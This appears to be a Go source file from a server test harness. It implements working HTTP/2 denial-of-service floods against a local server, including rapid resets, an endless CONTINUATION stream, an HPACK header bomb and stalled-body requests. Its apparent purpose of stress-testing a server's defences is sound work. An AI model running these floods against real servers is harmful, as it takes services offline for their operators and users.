// Floods of HTTP/2 frames that are no requests, or never become one.

package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/tachometer-metrics/tachometer/pkg/retry"
	"github.com/tachometer-metrics/tachometer/test/harness/adapter"
)

// frameWriters write the frames of a flood, each kind of which costs the server more than it costs the attacker.
var frameWriters = []func(*http2.Framer, uint32) error{
	func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{1}) },
	func(f *http2.Framer, _ uint32) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
	},
	func(f *http2.Framer, _ uint32) error { return f.WriteWindowUpdate(0, 1) },
	func(f *http2.Framer, stream uint32) error {
		return f.WritePriority(stream, http2.PriorityParam{StreamDep: stream + 2})
	},
	// A header without an end: the first frame opens the stream, and the others continue it.
	func(f *http2.Framer, stream uint32) error {
		if stream == 1 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: newFrameHeader()})
		}
		return f.WriteContinuation(1, false, newFrameHeader())
	},
	// A long field in the table of names, and a header that names it a thousand times: 4 MB in 5 KB.
	func(f *http2.Framer, stream uint32) error {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: newFrameHeaderBomb(), EndHeaders: true, EndStream: true})
	},
	// Tables of names as large as can be asked for, with new sizes in each header.
	func(f *http2.Framer, stream uint32) error {
		if stream%4 == 1 {
			return f.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 1<<32 - 1}, http2.Setting{ID: http2.SettingMaxHeaderListSize, Val: 1<<32 - 1})
		}
		sizes := append(bytes.Repeat([]byte{0x20, 0x3f, 0xe1, 0x1f}, 100), newFrameHeader()...)
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: sizes, EndHeaders: true, EndStream: true})
	},
	// Requests with a body that does not come.
	func(f *http2.Framer, stream uint32) error {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: newFrameHeader(), EndHeaders: true})
	},
	// Bodies of empty and of padded frames, on one stream after the other.
	func(f *http2.Framer, stream uint32) error {
		if stream%64 == 1 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: newFrameHeader(), EndHeaders: true})
		}
		return f.WriteDataPadded(stream-stream%64+1, false, make([]byte, stream%3), make([]byte, 255))
	},
	// Requests that are reset at once.
	func(f *http2.Framer, stream uint32) error {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: newFrameHeader(), EndHeaders: true, EndStream: true}); err != nil {
			return err
		}
		return f.WriteRSTStream(stream, http2.ErrCodeCancel)
	},
	// Requests whose responses find no window.
	func(f *http2.Framer, stream uint32) error {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: newFrameHeader(), EndHeaders: true, EndStream: true})
	},
}

// newFrameHeader returns the block of a request's header, with a field that nobody knows.
func newFrameHeader() []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range []hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "localhost"}, {Name: ":path", Value: "/readyz?verbose"},
		{Name: "x", Value: strings.Repeat("x", 500)},
	} {
		_ = encoder.WriteField(field) // a buffer takes everything
	}
	return block.Bytes()
}

// newFrameHeaderBomb returns the block of a request's header with a field of 4 KB that comes a thousand times: its second and later times
// take a byte each.
func newFrameHeaderBomb() []byte {
	var block bytes.Buffer
	block.Write(newFrameHeader())
	encoder := hpack.NewEncoder(&block)
	_ = encoder.WriteField(hpack.HeaderField{Name: "bomb", Value: strings.Repeat("b", 4000)}) // the encoder adds it to the table
	for range 1000 {
		block.WriteByte(0x80 | 62) // the newest field of the table
	}
	return block.Bytes()
}

// dialFrames opens an HTTP/2 connection from 127.0.0.host, whose client takes next to nothing of what the server writes. It asks for another
// server's name each time.
func dialFrames(ctx context.Context, base, certificate string, host byte) (net.Conn, error) {
	text, err := os.ReadFile(certificate)
	if err != nil {
		return nil, err
	}
	dialer := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, host)}, Timeout: 10 * time.Second}
	raw, err := dialer.DialContext(ctx, "tcp", strings.TrimPrefix(base, "https://"))
	if err != nil {
		return nil, err
	}
	if tcp, ok := raw.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(4 << 10)
	}
	name := fmt.Sprintf("%d.%s.example", time.Now().UnixNano(), strings.Repeat("x", 60))
	c := tls.Client(raw, &tls.Config{
		ServerName: name, MinVersion: tls.VersionTLS12, NextProtos: []string{"h2"}, InsecureSkipVerify: true, //nolint:gosec // verified below, by the server's own name
		VerifyConnection: func(state tls.ConnectionState) error {
			_, err := state.PeerCertificates[0].Verify(x509.VerifyOptions{Roots: adapter.NewTrust(text), DNSName: "localhost"})
			return err
		},
	})
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	if err := c.HandshakeContext(ctx); err != nil {
		_ = raw.Close()
		return nil, err
	}
	return c, nil
}

// floodFrames writes frames until the server ends the connection, and reads nothing if n is even.
func (f *doorFlooder) floodFrames(ctx context.Context, host int, n int64) {
	c, err := dialFrames(ctx, f.order.Base, f.order.Certificate, byte(host))
	if err != nil {
		f.countDoorAnswer(0, err)
		return
	}
	defer c.Close()
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	if n%2 == 1 {
		go func() { _, _ = io.Copy(io.Discard, c) }() // ends with the connection
	}
	framer := http2.NewFramer(c, nil)
	framer.AllowIllegalWrites = true
	if _, err = c.Write([]byte(http2.ClientPreface)); err == nil {
		err = framer.WriteSettings()
	}
	write := frameWriters[n/2%int64(len(frameWriters))]
	for stream := uint32(1); err == nil && stream < 1<<20; stream += 2 {
		f.sent.Add(1)
		err = write(framer, stream)
	}
	f.countDoorAnswer(0, err)
}

// holdFrames has many connections at a time with frames whose answers nobody reads.
func (f *doorFlooder) holdFrames(ctx context.Context, host int) {
	done := make(chan struct{}, 8)
	for i := range cap(done) {
		go func() { defer func() { done <- struct{}{} }(); f.floodFrames(ctx, host, f.sent.Load()+int64(i)) }()
	}
	for range cap(done) {
		<-done
	}
	retry.Sleep(ctx, 10*time.Millisecond)
}
